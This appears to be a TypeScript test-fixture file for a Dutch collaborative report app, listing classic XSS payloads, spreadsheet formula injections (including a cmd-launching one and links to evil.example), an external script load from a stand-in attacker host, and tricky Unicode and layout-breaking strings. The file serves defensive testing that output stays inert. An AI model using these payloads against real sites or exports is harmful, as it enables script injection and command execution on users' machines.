/**
 * Classic XSS payloads (OWASP cheat sheet, PortSwigger, html5sec): each tries to set
 * `window.__xss` or open a dialog. Used as names, post-its, chat, explanations and verslag text;
 * every view and every export must keep them inert.
 */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss=1</script>',
  '<script>alert(1)</script>',
  '"><script>window.__xss=1</script>',
  "'><script>window.__xss=1</script>",
  '<img src=x onerror=window.__xss=1>',
  '<img src=x onerror="alert(1)">',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<body onload=window.__xss=1>',
  '<iframe src="javascript:window.parent.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<a href="javascript:window.__xss=1">klik</a>',
  '[klik](javascript:window.__xss=1)',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<details open ontoggle=window.__xss=1>',
  '<input autofocus onfocus=window.__xss=1>',
  '<select autofocus onfocus=window.__xss=1>',
  '<textarea autofocus onfocus=window.__xss=1>',
  '<video><source onerror=window.__xss=1>',
  '<audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action=javascript:alert(1) type=image>',
  '<div style="background:url(javascript:alert(1))">',
  '<div style="width:expression(alert(1))">',
  '<style>@import "javascript:alert(1)";</style>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<table background="javascript:alert(1)">',
  '"onmouseover="window.__xss=1',
  "' onmouseover='window.__xss=1",
  '` onmouseover=window.__xss=1 `',
  '{{constructor.constructor("window.__xss=1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, on purpose
  '${alert(1)}',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '%3Cscript%3Ewindow.__xss=1%3C/script%3E',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<img src="x" onerror="&#119;indow.__xss=1">',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<x onclick=window.__xss=1>klik mij</x>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<!--<img src="--><img src=x onerror=window.__xss=1//">',
  '"><img src=x onerror=window.__xss=1>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example","klik")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\u202Egnp.exe\u202C <script>window.__xss=1</script>',
];

/**
 * [XSS3] Characters no document can carry, alone and inside ordinary words: noncharacters
 * (U+FFFE, U+FFFF, U+FDD0, U+1FFFE), lone surrogates, C0 control characters, and (allowed, but
 * tricky) right-to-left overrides. Text fields refuse the first two kinds; exports drop all but the
 * overrides. Yjs sends text as UTF-8, so lone surrogates never reach the verslag that way.
 */
export const UNSTORABLE_CHARS: string[] = [
  'Voor\uFFFEna',
  'Einde\uFFFF',
  '\uFDD0begin',
  'vlak 1 \u{1FFFE} vlak 1',
  'los \uD800 hoog',
  'los \uDC00 laag',
  'omgekeerd \uDFFF\uD800 paar',
];
/** Control characters other than tab, newline and carriage return (text fields refuse them too). */
export const CONTROL_CHARS: string[] = ['nul\u0000teken', 'bel\u0007 en escape\u001B[31m', 'form\u000Cfeed'];
/** Bidirectional overrides and isolates: valid text, must stay inert and keep the layout. */
export const BIDI_TRICKS: string[] = [
  '\u202Egnp.exe\u202C',
  '\u2067עברית\u2069 en \u2066Nederlands\u2069',
  '\u200F\u202Bإلى\u202C',
];

/**
 * [TEXT1] Text that breaks layouts and reading order rather than running code: long unbroken words
 * and URLs (a pasted link, a long name) and right-to-left text, with and without an unclosed
 * right-to-left override (U+202E). Each fits the field it is meant for (names ≤ 60, headings ≤ 120).
 */
export const HOSTILE_TEXT = {
  /** 60 characters without a break: a name. */
  longName: 'Aardgasvrijewijkenparticipatiebegeleidingsgroepsvoorzittersv',
  /** A name with a right-to-left override that is never closed. */
  rloName: '\u202EAnn de Vries',
  /** A name in Arabic script. */
  arabicName: 'مريم العلي',
  /** 118 characters without a break: a heading or an option. */
  longWord:
    'Energietransitieparticipatiebegeleidingsgroepsbijeenkomstverslagleggersvoorbereidingswerkzaamhedenoverzichtsdocumenten',
  /** A pasted link of 200 characters. */
  url: `https://www.example.org/kennisbank/participatie/${'aardgasvrijewijken-'.repeat(8)}verslag.pdf`,
} as const;
